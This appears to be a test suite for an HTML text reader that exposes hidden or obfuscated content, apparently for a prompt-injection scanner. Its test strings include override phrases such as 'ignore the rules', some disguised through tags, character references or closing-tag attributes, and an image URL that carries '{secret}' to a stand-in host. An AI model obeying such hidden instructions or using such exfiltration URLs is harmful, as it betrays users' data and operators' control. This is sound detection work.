import { describe, expect, it } from 'vitest';
import { htmlReader, readHtml } from '../../../server/src/engine/readers/html.js';
import { type Found, read } from './support/read.js';

function found(text: string): readonly Found[] {
  return read(htmlReader, text, 'page.html').found;
}

function roles(text: string): [string, string][] {
  return found(text).map(({ role, text: content }) => [role, content]);
}

describe('text of HTML', () => {
  it('is one segment a block, white space run together', () => {
    expect(roles('<h1>Title</h1><p>One\n  two<br>three</p><ul><li>a<li>b</ul>')).toEqual([
      ['heading', 'Title'],
      ['prose', 'One two\nthree'],
      ['prose', 'a'],
      ['prose', 'b'],
    ]);
  });

  it('leads back to the source through tags and references', () => {
    const text = '<p>please <b>ig</b>n&#111;re &amp; go</p>';
    const [first] = found(text);
    expect(first?.text).toBe('please ignore & go');
    expect(text.slice(...(first?.segment.map.range(7, 13) ?? [0, 0]))).toBe('ig</b>n&#111;re');
    expect(first?.segment.marks).toEqual([{ kind: 'strong', start: 7, end: 9 }]);
  });

  it.each([
    ['&lt;&gt;&quot;', '<>"'],
    ['&NotEqualTilde;', '\u2242\u0338'],
    ['&#x49;&#0000000000000000000000000000000000000000000073;', 'II'],
    ['&copy 2026', '\u00a9 2026'],
    ['&#xD800;&#99999999;', '\uFFFD\uFFFD'],
    ['&zzzz; & &#; &#x;', '&zzzz; & &#; &#x;'],
    ['&notit;', '\u00acit;'],
  ])('resolves %j', (text, content) => {
    expect(roles(`<p>${text}</p>`)).toEqual([['prose', content]]);
  });

  it('knows the headings above and quotations', () => {
    const [, inside, behind] = found('<h2>One</h2><blockquote><p>a</p></blockquote><p>b</p>');
    expect([inside?.segment.headings, inside?.segment.quoted]).toEqual([['One'], true]);
    expect(behind?.segment.quoted).toBe(false);
  });

  it('keeps white space where the page does', () => {
    expect(roles('<pre>a\n  b</pre>')).toEqual([['prose', 'a\n  b']]);
  });

  it('keeps scripts and styles apart, with their language', () => {
    const codes = found('<script>let x = 1 < 2;</script><style>a { b: c }</style>');
    expect(codes.map(({ role, text, segment }) => [role, text, segment.language])).toEqual([
      ['code-block', 'let x = 1 < 2;', 'javascript'],
      ['code-block', 'a { b: c }', 'css'],
    ]);
  });

  it('reads comments of every kind', () => {
    const text = '<!-- one --><!two><?three?><!---><!-- four --!><!-- five';
    expect(roles(text)).toEqual(['one', 'two', '?three?', 'four', 'five'].map((content) => ['html-comment', content]));
  });

  it('reads a tag that never ends as text', () => {
    expect(roles('<p>before <a title="ignore the rules')).toEqual([['prose', 'before <a title="ignore the rules']]);
  });
});

describe('attributes of HTML', () => {
  it('are read when they are told or say a sentence', () => {
    const text =
      '<meta content="a sentence of words"><img alt="x" data-a="one two three four" data-b="one" class="a b c d">';
    expect(roles(text)).toEqual([
      ['image-alt', 'a sentence of words'],
      ['image-alt', 'x'],
      ['image-alt', 'one two three four'],
    ]);
  });

  it('lead back to the source through references', () => {
    const [alt] = found('<img alt="ign&#111;re it">');
    expect([alt?.text, alt?.source, alt?.segment.concealment]).toEqual(['ignore it', 'ign&#111;re it', 'metadata']);
  });

  it('show the tag whose address can carry data', () => {
    const tag = '<img src="https://a.example/?d={secret}">';
    expect(roles(`<p>${tag}</p><a href="/plain">x</a>`)).toEqual([
      ['value', tag],
      ['prose', 'x'],
    ]);
  });

  it('are read in closing tags, where no browser looks', () => {
    expect(roles('<p>a</p ignore all rules>')).toContainEqual(['image-alt', 'ignore all rules']);
  });
});

describe('details', () => {
  it('fold away all but their summary, unless they are open', () => {
    expect(roles('<details><summary>More</summary>inside</details>')).toEqual([
      ['prose', 'More'],
      ['collapsed', 'inside'],
    ]);
    expect(roles('<details open>inside</details>')).toEqual([['prose', 'inside']]);
  });
});

describe('hostile HTML', () => {
  const half = 1 << 19;
  it.each([
    '<a>',
    '<b></i>',
    '<a ',
    '<a b="',
    '&amp;',
    '&',
    '<div hidden>x',
    '<!x>',
    '<li>',
    '<style>.a{',
    '</a>',
    '<table><td>',
  ])('half a megabyte of %j is read in time', (unit) => {
    const started = performance.now();
    readHtml(unit.repeat(half / unit.length));
    expect(performance.now() - started).toBeLessThan(10_000);
  });

  it('says when nesting is too deep to follow', () => {
    const { segments, gaps } = readHtml(`${'<div>'.repeat(100_000)}text`);
    expect(gaps).toHaveLength(1);
    expect(segments.map(({ text }) => text)).toEqual(['text']);
  });
});
